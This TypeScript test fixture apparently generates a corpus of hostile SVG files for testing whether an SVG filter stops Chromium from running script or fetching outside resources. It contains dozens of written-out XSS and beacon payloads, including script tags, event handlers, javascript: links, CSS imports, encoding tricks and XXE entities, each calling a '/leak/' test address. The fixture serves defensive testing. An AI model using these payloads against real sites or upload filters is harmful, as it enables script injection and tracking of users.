/** An SVG that wants to run something or to be told that it is looked at. */
export interface Attack {
  readonly name: string
  /** Whether Chromium falls for it where nothing stands in between: proof that the test would see it. */
  readonly acts: boolean
  readonly file: Buffer
}

/** What an attack asks for, or runs. */
export interface Loot {
  /** Whatever is asked for below this address has got out. */
  readonly leak: string
  /** A script that asks for it. */
  readonly run: string
}

const XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
const RECT = '<rect id="r" width="100" height="100" fill="#0a0"/>'

const svg = (content: string, attributes = '') =>
  `<svg ${XMLNS} viewBox="0 0 100 100" ${attributes}>${content}</svg>`
const base64 = (text: string) => Buffer.from(text).toString('base64')
const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')

type Markup = (loot: Loot) => string | Buffer

/** Those that Chromium falls for, opened by itself and clicked at. */
const LIVE: Readonly<Record<string, Markup>> = {
  'a script': ({ run }) => svg(`<script>${run}</script>`),
  'a script in CDATA': ({ run }) => svg(`<script><![CDATA[${run}]]></script>`),
  'a script of another prefix': ({ run }) =>
    `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>${run}</x:script></x:svg>`,
  'a script of HTML': ({ run }) => svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`),
  'a script from elsewhere': ({ leak }) => svg(`<script href="${leak}.js"/>`),
  'a script from elsewhere, by XLink': ({ leak }) => svg(`<script xlink:href="${leak}.js"/>`),
  'a script by another prefix of XLink': ({ leak }) =>
    svg(`<script xmlns:y="http://www.w3.org/1999/xlink" y:href="${leak}.js"/>`),
  'a script in a data URL': ({ run }) => svg(`<script href="data:text/javascript;base64,${base64(run)}"/>`),
  'a script written with references': ({ run }) =>
    svg(`<script>${run.replaceAll(/./g, (letter) => `&#${letter.charCodeAt(0)};`)}</script>`),
  'a script inside of definitions': ({ run }) => svg(`<defs><g><script>${run}</script></g></defs>${RECT}`),
  'a script after a NUL of UTF-16': ({ run }) => utf16(svg(`<script>${run}</script>`)),
  'a script in UTF-16 that declares it': ({ run }) =>
    utf16(`<?xml version="1.0" encoding="UTF-16"?>${svg(`<script>${run}</script>`)}`),
  'a script in ISO-8859-1': ({ run }) =>
    Buffer.from(
      `<?xml version="1.0" encoding="ISO-8859-1"?>${svg(`<text>\xe9</text><script>${run}</script>`)}`,
      'latin1',
    ),
  'a script that an entity holds': ({ run }) =>
    `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>${run.replaceAll("'", '&#39;')}</script>">]>${svg('&x;')}`,
  'the event load of the root': ({ run }) => svg(RECT, `onload="${run}"`),
  'the event click': ({ run }) => svg(`<g onclick="${run}">${RECT}</g>`),
  'the event mousemove': ({ run }) => svg(`<rect width="100" height="100" onmousemove="${run}"/>`),
  'the event begin of an animation': ({ run }) =>
    svg(
      `<rect width="9" height="9"><animate attributeName="x" from="0" to="1" dur="1s" onbegin="${run}"/></rect>`,
    ),
  'the event error of a picture': ({ run }) =>
    svg(`<image href="data:image/png;base64,AAAA" width="9" height="9" onerror="${run}"/>`),
  'the event focus': ({ run }) => svg(`<a href="#r" onfocus="${run}">${RECT}</a>`),
  'a link that runs': ({ run }) => svg(`<a href="javascript:${run}">${RECT}</a>`),
  'a link that runs, by XLink': ({ run }) => svg(`<a xlink:href="javascript:${run}">${RECT}</a>`),
  'a link that runs, with breaks and capitals': ({ run }) =>
    svg(`<a href=" java&#10;Scr&#9;ipt:${run}">${RECT}</a>`),
  'a link that runs, in references': ({ run }) => svg(`<a href="&#x6a;avascript&#58;${run}">${RECT}</a>`),
  'a link elsewhere': ({ leak }) => svg(`<a href="${leak}">${RECT}</a>`),
  'an animation that sets a link': ({ run }) =>
    svg(
      `<a><animate attributeName="href" values="javascript:${run}" begin="0s" fill="freeze" dur="1ms"/>${RECT}</a>`,
    ),
  'a set that sets a link': ({ run }) =>
    svg(`<a><set attributeName="href" to="javascript:${run}"/>${RECT}</a>`),
  'a set that sets a link of XLink': ({ leak }) =>
    svg(`<a href="#r"><set attributeName="href" to="${leak}"/>${RECT}</a>`),
  'a set of a picture': ({ leak }) =>
    svg(`<image width="9" height="9"><set attributeName="href" to="${leak}.png"/></image>`),
  'HTML in a foreign object': ({ run }) =>
    svg(`<foreignObject width="9" height="9"><body ${XHTML}><script>${run}</script></body></foreignObject>`),
  'an iframe': ({ leak }) =>
    svg(`<foreignObject width="9" height="9"><iframe ${XHTML} src="${leak}"/></foreignObject>`),
  'an iframe outside of a foreign object': ({ leak }) => svg(`<iframe ${XHTML} src="${leak}"/>`),
  'an iframe with a document of its own': ({ run }) =>
    svg(`<iframe ${XHTML} srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"/>`),
  'an object': ({ leak }) =>
    svg(`<foreignObject width="9" height="9"><object ${XHTML} data="${leak}"/></foreignObject>`),
  'an embed': ({ leak }) =>
    svg(`<foreignObject width="9" height="9"><embed ${XHTML} src="${leak}"/></foreignObject>`),
  'a picture of HTML': ({ run }) => svg(`<img ${XHTML} src="data:," onerror="${run}"/>`),
  'a film': ({ leak }) => svg(`<video ${XHTML} src="${leak}"/>`),
  'a sound': ({ leak }) => svg(`<audio ${XHTML} src="${leak}" autoplay="autoplay"/>`),
  'a refresh': ({ leak }) => svg(`<meta ${XHTML} http-equiv="refresh" content="0;url=${leak}"/>`),
  'a link to a style sheet': ({ leak }) => svg(`<link ${XHTML} rel="stylesheet" href="${leak}.css"/>`),
  'an instruction that names a style sheet': ({ leak }) =>
    `<?xml-stylesheet href="${leak}.css" type="text/css"?>${svg(RECT)}`,
  'an instruction that names a transformation': ({ leak }) =>
    `<?xml-stylesheet href="${leak}.xsl" type="text/xsl"?>${svg(RECT)}`,
  'a picture': ({ leak }) => svg(`<image href="${leak}.png" width="9" height="9"/>`),
  'a picture, by XLink': ({ leak }) => svg(`<image xlink:href="${leak}.png" width="9" height="9"/>`),
  'a picture without a scheme': ({ leak }) =>
    svg(`<image href="${leak.replace('http:', '')}.png" width="9" height="9"/>`),
  'a picture by a relative address': ({ leak }) =>
    svg(`<image href="${new URL(leak).pathname}.png" width="9" height="9"/>`),
  'a picture of a filter': ({ leak }) =>
    svg(`<filter id="f"><feImage href="${leak}.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
  'a use of another drawing': ({ leak }) => svg(`<use href="${leak}.svg#r"/>`),
  'a style sheet that imports': ({ leak }) => svg(`<style>@import url("${leak}.css");</style>${RECT}`),
  'a style sheet that imports without url()': ({ leak }) =>
    svg(`<style>@import "${leak}.css";</style>${RECT}`),
  'an import with escapes': ({ leak }) => svg(`<style>@\\69mport "${leak}.css";</style>${RECT}`),
  'an import in CDATA, behind a comment': ({ leak }) =>
    svg(`<style><![CDATA[/* */@import/**/"${leak}.css";]]></style>${RECT}`),
  'an import that is cut by a comment': ({ leak }) =>
    svg(`<style>@imp<!-- -->ort "${leak}.css";</style>${RECT}`),
  'a background': ({ leak }) => svg(`<style>svg { background: url(${leak}.png) }</style>${RECT}`),
  'a background in a style attribute': ({ leak }) =>
    svg(RECT, `style="background-image: url('${leak}.png')"`),
  'a background with escapes': ({ leak }) => svg(RECT, `style="background: u\\72 l(${leak}.png)"`),
  'a background of an image set': ({ leak }) =>
    svg(`<style>svg { background: image-set("${leak}.png" 1x) }</style>${RECT}`),
  'a background by a custom property': ({ leak }) =>
    svg(`<style>svg { --x: url(${leak}.png); background: var(--x) }</style>${RECT}`),
  'a background in a media query, nested': ({ leak }) =>
    svg(`<style>@media all { svg { &amp;:not(.x) { background: url(${leak}.png) } } }</style>${RECT}`),
  'a background behind a broken string': ({ leak }) =>
    svg(`<style>a { content: "x\n } svg { background: url(${leak}.png) } /* " }</style>${RECT}`),
  'a background of a keyframe': ({ leak }) =>
    svg(
      `<style>@keyframes k { from, to { background: url(${leak}.png) } } svg { animation: k 1s infinite }</style>${RECT}`,
    ),
  'a font': ({ leak }) =>
    svg(
      `<style>@font-face { font-family: x; src: url(${leak}.woff2) } text { font-family: x }</style><text y="9">a</text>`,
    ),
  'a style attribute that an animation sets': ({ leak }) =>
    svg(
      `<rect width="9" height="9"><animate attributeName="mask" values="url(${leak}.svg#m)" dur="9s"/></rect>`,
    ),
  'a mask': ({ leak }) => svg(`<rect width="9" height="9" style="mask-image: url(${leak}.png)"/>`),
  'a mask behind a semicolon in a string': ({ leak }) =>
    svg(`<rect width="9" height="9" style='mask-image: url("${leak}.png?;")'/>`),
  'a cursor': ({ leak }) => svg(`<rect width="100" height="100" style="cursor: url(${leak}.png), auto"/>`),
}

/** Those that Chromium does not fall for, or not any more; others may. */
const DORMANT: Readonly<Record<string, Markup>> = {
  'the event load of a group': ({ run }) => svg(`<g onload="${run}">${RECT}</g>`),
  'a base for what is inside': ({ leak }) =>
    svg(`<g xml:base="${leak}/"><image href="x.png" width="9" height="9"/></g>`),
  'a background behind a broken rule': ({ leak }) =>
    svg(`<style>} a{b:c;{}} ]]) ; svg { background: url(${leak}.png) }</style>${RECT}`),
  'a fill from elsewhere': ({ leak }) => svg(`<rect width="9" height="9" fill="url(${leak}.svg#g)"/>`),
  'a fill behind a semicolon in a string': ({ leak }) =>
    svg(`<rect width="9" height="9" fill='";" url(${leak}.svg#g)'/>`),
  'a gradient that goes on elsewhere': ({ leak }) =>
    svg(`<linearGradient id="g" href="${leak}.svg#g"/><rect width="9" height="9" fill="url(#g)"/>`),
  'a marker with escapes': ({ leak }) => svg(`<path d="M0 0L9 9" marker-end="u\\72l(${leak}.svg#m)"/>`),
  'a use of a data URL': ({ run }) =>
    svg(`<use href="data:image/svg+xml;base64,${base64(svg(`<g id="x"><script>${run}</script></g>`))}#x"/>`),
  'a drawing inside, as a picture': ({ leak }) =>
    svg(
      `<image width="9" height="9" href="data:image/svg+xml;base64,${base64(svg(`<image href="${leak}.png"/>`))}"/>`,
    ),
  'an expression': ({ run }) => svg(RECT, `style="width: expression(${run})"`),
  'a behaviour': ({ leak }) => svg(RECT, `style="behavior: url(${leak}.htc)"`),
  'a binding': ({ leak }) => svg(RECT, `style="-moz-binding: url(${leak}.xml#x)"`),
  'a handler': ({ run }) =>
    svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`),
  'a listener': ({ leak }) =>
    svg(
      `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="${leak}.svg#x" observer="r"/>${RECT}`,
    ),
  'a colour profile': ({ leak }) => svg(`<color-profile name="x" xlink:href="${leak}.icc"/>${RECT}`),
  'a font of SVG': ({ leak }) =>
    svg(
      `<font-face font-family="x"><font-face-src><font-face-uri xlink:href="${leak}.svg#x"/></font-face-src></font-face>`,
    ),
  'a cursor of SVG': ({ leak }) =>
    svg(`<cursor id="c" xlink:href="${leak}.png"/><rect width="9" height="9" cursor="url(#c)"/>`),
  'a reference to text': ({ leak }) => svg(`<text><tref xlink:href="${leak}.svg#t"/></text>`),
  'an inclusion': ({ leak }) =>
    svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${leak}.svg"/>`),
  'a document type elsewhere': ({ leak }) => `<!DOCTYPE svg SYSTEM "${leak}.dtd">${svg(RECT)}`,
  'an entity elsewhere': ({ leak }) =>
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${leak}.txt">]>${svg('<text>&x;</text>')}`,
  'entities in entities': () =>
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${svg('<text>&c;</text>')}`,
  'UTF-7': ({ run }) =>
    `<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI- onload=+ACI-${run}+ACI-/+AD4-`,
  'UTF-7 behind its mark': ({ run }) => `+/v8-${svg(`<text>+ADw-script+AD4-${run}+ADw-/script+AD4-</text>`)}`,
  capitals: ({ run }) => svg(`<SCRIPT>${run}</SCRIPT><rect onLoad="${run}" ONCLICK="${run}"/>`),
  'a NUL in a name': ({ run }) => svg(`<scr\0ipt>${run}</scr\0ipt>`),
  'a comment that HTML ends elsewhere': ({ run }) => svg(`<desc><!--> <script>${run}</script> --></desc>`),
  'CDATA that HTML does not know': ({ run }) =>
    svg(`<title><![CDATA[</title><script>${run}</script>]]></title>`),
  'a style that HTML ends': ({ run }) => svg(`<style><![CDATA[</style><script>${run}</script>]]></style>`),
  'attributes without quotes': ({ run }) => `<svg ${XMLNS} onload=${run}></svg>`,
  'tags that are left open': ({ run }) => `<svg ${XMLNS}><script>${run}`,
  'HTML that says it is SVG': ({ run }) => `<!DOCTYPE html><html><script>${run}</script>${svg('')}</html>`,
  'a slash in place of a space': ({ run }) => `<svg/onload=${run}/xmlns="http://www.w3.org/2000/svg"/>`,
  MathML: ({ run }) =>
    svg(
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" href="javascript:${run}">x</maction></math>`,
    ),
  'a discard': ({ run }) => svg(`<discard href="#r" onend="${run}"/>${RECT}`),
  'the way that it is closed': ({ leak }) => svg(`<a ping="${leak}" target="_top">${RECT}</a>`),
}

/** All attacks, each with an address of its own to ask for. */
export function attacks(origin: string): readonly Attack[] {
  const all = [
    ...Object.entries(LIVE).map(([name, markup]) => ({ name, markup, acts: true })),
    ...Object.entries(DORMANT).map(([name, markup]) => ({ name, markup, acts: false })),
  ]
  return all.map(({ name, markup, acts }, at) => {
    const leak = `${origin}/leak/${at}`
    return { name, acts, file: Buffer.from(markup({ leak, run: `fetch('${leak}')` })) }
  })
}
